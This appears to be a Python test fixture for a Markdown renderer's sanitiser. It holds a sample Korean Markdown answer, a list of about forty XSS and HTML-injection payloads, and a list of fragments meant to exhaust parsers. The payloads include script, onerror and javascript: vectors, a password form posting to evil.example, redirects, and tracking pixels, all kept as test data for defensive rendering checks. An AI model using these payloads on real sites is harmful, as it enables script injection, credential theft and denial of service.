"""Markdown as models write it, and as nobody should."""

ANSWER = (
    """# 제목

첫 문단입니다. **굵게** 하고 `코드`도 있습니다.
둘째 줄이 이어집니다.

- 하나
- 둘 [링크](https://example.com/a)

  둘째 문단
- 셋
  ```py
  x = 1
  ```

1. first
2. second
   - nested *item*

| 이름 | 값 |
|---|--:|
| TTFT | **2** 초 |
| ITL | 50 ms |

```python
def f(x: int) -> str:
    \"\"\"A text
    over lines.\"\"\"
    return f"{x}"
```

> 인용문
> 이어서

수식 $E = mc^2$ 그리고

$$
\\frac{a}{b}
$$

---

"""
    + "길게 이어지는 문단이 **여기** 있습니다. " * 40
)

# Each must come out without anything that runs, loads, submits, restyles or covers the page.
HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<iframe src=javascript:window.hacked=1></iframe>",
    "<style>* { display: none }</style>",
    "<form action=https://evil.example><input type=password name=p></form>",
    '<a href="javascript:window.hacked=1">x</a>',
    "[x](javascript:window.hacked=1)",
    "[x](JaVaScRiPt&colon;window.hacked=1)",
    "[x](data:text/html,<script>window.hacked=1</script>)",
    "[x](vbscript:window.hacked=1)",
    "<javascript:window.hacked=1>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:window.hacked=1)",
    '![x](https://evil.example/"onerror="window.hacked=1)',
    '[x](https://evil.example/ "onmouseover=window.hacked=1")',
    "[x][y]\n\n[y]: javascript:window.hacked=1",
    "```html onload=window.hacked=1\n<script>window.hacked=1</script>\n```",
    '```"><script>window.hacked=1</script>\nx\n```',
    "`<script>window.hacked=1</script>`",
    "$<script>window.hacked=1</script>$",
    "$\\text{<img src=x onerror=window.hacked=1>}$",
    "$$\n<style>*{display:none}</style>\n$$",
    "| <script>window.hacked=1</script> | b |\n|---|---|\n| <img src=x onerror=window.hacked=1> | c |",
    "- <svg><style><img src=x onerror=window.hacked=1></style></svg>",
    "# <b id=app style=position:fixed>x</b>",
    '<div class="q-dialog fixed-full" style="position:fixed;inset:0">cover</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#x3C;img src=x onerror=window.hacked=1&#x3E;",
    "https://evil.example/<script>window.hacked=1</script>",
    "</code></pre></div><script>window.hacked=1</script>",
    "<a href='https://evil.example' ping='https://evil.example' target=_self>x</a>",
    "<base href=https://evil.example><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<video src=https://evil.example autoplay onplay=window.hacked=1></video>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "\u202e\u0000\ufeff<script>window.hacked=1</script>",
]

# Small pieces that, repeated to 32 kB, bring Markdown parsers to their knees.
COSTLY = [
    "[", "![", "[a](", "]", "[[", "`", "``` ", ">", "> > > \n", "> a b c\n", "> a\nb\n", "*", "*a ", "a**b ", "**a** ",
    "- ", "- a\n", "- a\nb\n", "- x\n\n", "1. a\n", "|", "|a|b|\n", "|a|b|\n|-|-|\n", "$", "$a ", "$$", "\\(", "\\[a ",
    "<", "<a@b ", "<div ", "&amp;", "&#x41;", "http://a ", "www.", "a@b.c ", "@", "a:", "\n", "a\n\n", "_a", "~~a",
    "[a]: b\n", "```\n", "- a\n  ```\n", "> ```\n", "a_b*c [x ", "x", "    code\n", "# a\n", "a\n=\n", "a|b\n", "\\",
]  # fmt: skip
